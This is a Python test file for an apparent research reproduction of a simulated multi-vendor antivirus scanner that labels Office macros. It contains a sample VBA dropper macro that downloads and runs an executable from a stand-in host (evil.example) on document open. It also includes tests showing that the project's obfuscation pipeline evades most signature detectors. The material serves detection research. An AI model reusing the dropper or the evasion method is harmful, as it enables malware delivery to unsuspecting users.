"""Tests for the multi-vendor AV simulation."""

import random

import pytest

from repro.avsim.signatures import match_signatures
from repro.avsim.vendor import build_vendor_fleet
from repro.avsim.virustotal import (
    BENIGN_THRESHOLD,
    MALICIOUS_THRESHOLD,
    Verdict,
    VirusTotalSim,
    label_documents,
)
from repro.corpus.builder import CorpusBuilder, paper_profile
from repro.corpus.malicious import generate_malicious_macro
from repro.obfuscation.pipeline import default_pipeline

PLAIN_DOWNLOADER = (
    "Sub Document_Open()\n"
    "    Dim u As String\n"
    '    u = "http://evil.example/a.exe"\n'
    '    URLDownloadToFile 0, u, Environ("TEMP") & "\\a.exe", 0, 0\n'
    '    Shell Environ("TEMP") & "\\a.exe", 0\n'
    "End Sub\n"
)

BENIGN_MACRO = (
    "Sub FormatReport()\n"
    "    Range(\"A1:F1\").Font.Bold = True\n"
    "    Columns(\"A:F\").AutoFit\n"
    "End Sub\n"
)


class TestSignatures:
    def test_downloader_matches_many_signatures(self):
        hits = match_signatures(PLAIN_DOWNLOADER)
        names = {sig.name for sig in hits}
        assert "api.urlmon" in names
        assert "url.exe" in names

    def test_benign_macro_matches_nothing_strong(self):
        hits = match_signatures(BENIGN_MACRO)
        assert all(sig.weight == 0 for sig in hits)

    def test_signatures_case_insensitive(self):
        assert any(
            s.name == "api.urlmon"
            for s in match_signatures("urldownloadtofile 0, a, b, 0, 0")
        )


class TestVendorFleet:
    def test_fleet_size_and_uniqueness(self):
        fleet = build_vendor_fleet(60)
        assert len(fleet) == 60
        assert len({v.name for v in fleet}) == 60

    def test_fleet_deterministic(self):
        a = build_vendor_fleet(10, seed=1)
        b = build_vendor_fleet(10, seed=1)
        assert [v.name for v in a] == [v.name for v in b]

    def test_vendors_vary_in_coverage(self):
        fleet = build_vendor_fleet(30)
        sizes = {len(v.signatures) for v in fleet}
        assert len(sizes) > 3

    def test_most_vendors_catch_plain_downloader(self):
        fleet = build_vendor_fleet(60)
        detections = sum(1 for v in fleet if v.scan(PLAIN_DOWNLOADER))
        assert detections > MALICIOUS_THRESHOLD

    def test_no_vendor_flags_benign(self):
        fleet = build_vendor_fleet(60)
        detections = sum(1 for v in fleet if v.scan(BENIGN_MACRO))
        assert detections <= BENIGN_THRESHOLD


class TestVirusTotalSim:
    def test_plain_malware_verdict(self):
        report = VirusTotalSim().scan([PLAIN_DOWNLOADER])
        assert report.verdict is Verdict.MALICIOUS
        assert report.detections == len(report.flagged_by)

    def test_benign_verdict(self):
        report = VirusTotalSim().scan([BENIGN_MACRO])
        assert report.verdict is Verdict.BENIGN

    def test_document_flagged_when_any_macro_flagged(self):
        report = VirusTotalSim().scan([BENIGN_MACRO, PLAIN_DOWNLOADER])
        assert report.verdict is Verdict.MALICIOUS

    def test_empty_fleet_rejected(self):
        with pytest.raises(ValueError):
            VirusTotalSim(vendors=[])


class TestObfuscationEvadesSignatures:
    """The paper's core premise: obfuscation defeats signature AV."""

    def test_obfuscated_downloader_evades_most_vendors(self):
        scanner = VirusTotalSim()
        rng = random.Random(0)
        evasions = 0
        trials = 10
        for seed in range(trials):
            plain = generate_malicious_macro(rng, "word")
            obfuscated = default_pipeline().run(plain, seed=seed).source
            plain_detections = scanner.scan([plain]).detections
            obfuscated_detections = scanner.scan([obfuscated]).detections
            if obfuscated_detections < plain_detections:
                evasions += 1
        assert evasions >= trials * 0.8

    def test_obfuscation_drops_below_malicious_threshold(self):
        scanner = VirusTotalSim()
        plain_report = scanner.scan([PLAIN_DOWNLOADER])
        obfuscated = default_pipeline().run(PLAIN_DOWNLOADER, seed=3).source
        obfuscated_report = scanner.scan([obfuscated])
        assert plain_report.verdict is Verdict.MALICIOUS
        assert obfuscated_report.detections < plain_report.detections


class TestLabelingPipeline:
    def test_labeling_on_synthetic_corpus(self):
        corpus = CorpusBuilder(paper_profile().scaled(0.03), seed=11).build()
        outcome = label_documents(corpus.documents)
        total = len(corpus.documents)
        assert (
            outcome.labeled_benign + outcome.labeled_malicious == total
        )
        # The in-between band exists (obfuscated malware evades some vendors)
        # and manual inspection resolves it without mislabeling.
        assert outcome.mislabeled <= total * 0.15


class TestHashFeed:
    def test_blacklisted_macro_caught_despite_obfuscation(self):
        scanner = VirusTotalSim()
        obfuscated = default_pipeline().run(PLAIN_DOWNLOADER, seed=3).source
        before = scanner.scan([obfuscated]).detections
        scanner.blacklist_macro(obfuscated)
        after = scanner.scan([obfuscated]).detections
        assert after > before
        assert after > MALICIOUS_THRESHOLD

    def test_feed_subscription_is_partial(self):
        scanner = VirusTotalSim()
        scanner.blacklist_macro("some unique macro body")
        report = scanner.scan(["some unique macro body"])
        # ~70% of 60 vendors, never the whole fleet.
        assert 25 < report.detections < 60

    def test_feed_is_deterministic(self):
        a = VirusTotalSim()
        b = VirusTotalSim()
        a.blacklist_macro("x")
        b.blacklist_macro("x")
        assert a.scan(["x"]).flagged_by == b.scan(["x"]).flagged_by


def per_vendor_report(scanner: VirusTotalSim, macro_texts: list[str]):
    """``VirusTotalSim.scan`` spelled out through ``AVVendor.scan``."""
    digests = [scanner.macro_hash(text) for text in macro_texts]
    blacklisted = [d for d in digests if d in scanner._hash_feed]
    return [
        vendor.name
        for vendor in scanner.vendors
        if vendor.scan_document(macro_texts)
        or any(scanner._vendor_subscribes(vendor, d) for d in blacklisted)
    ]


class TestOneSignaturePass:
    """The fleet scan matches each signature once per text; its report must
    equal every vendor scanning on its own."""

    def test_report_equals_per_vendor_scans(self):
        corpus = CorpusBuilder(paper_profile().scaled(0.03), seed=11).build()
        scanner = VirusTotalSim()
        documents = random.Random(5).sample(list(corpus.documents), 24)
        for document in documents[::3]:
            scanner.blacklist_macro(document.macro_sources[0])
        flagged_some = blacklisted_some = 0
        for document in documents:
            report = scanner.scan(document.macro_sources)
            want = per_vendor_report(scanner, document.macro_sources)
            assert report.flagged_by == want
            assert report.detections == len(want)
            assert report.total_vendors == len(scanner.vendors)
            flagged_some += bool(want)
            blacklisted_some += any(
                scanner.macro_hash(text) in scanner._hash_feed
                for text in document.macro_sources
            )
        assert flagged_some and blacklisted_some

    def test_vendors_sharing_custom_signatures(self):
        fleet = build_vendor_fleet(count=12, seed=3)
        scanner = VirusTotalSim(fleet + fleet[:3])
        for text in (PLAIN_DOWNLOADER, BENIGN_MACRO, ""):
            assert scanner.scan([text]).flagged_by == per_vendor_report(scanner, [text])
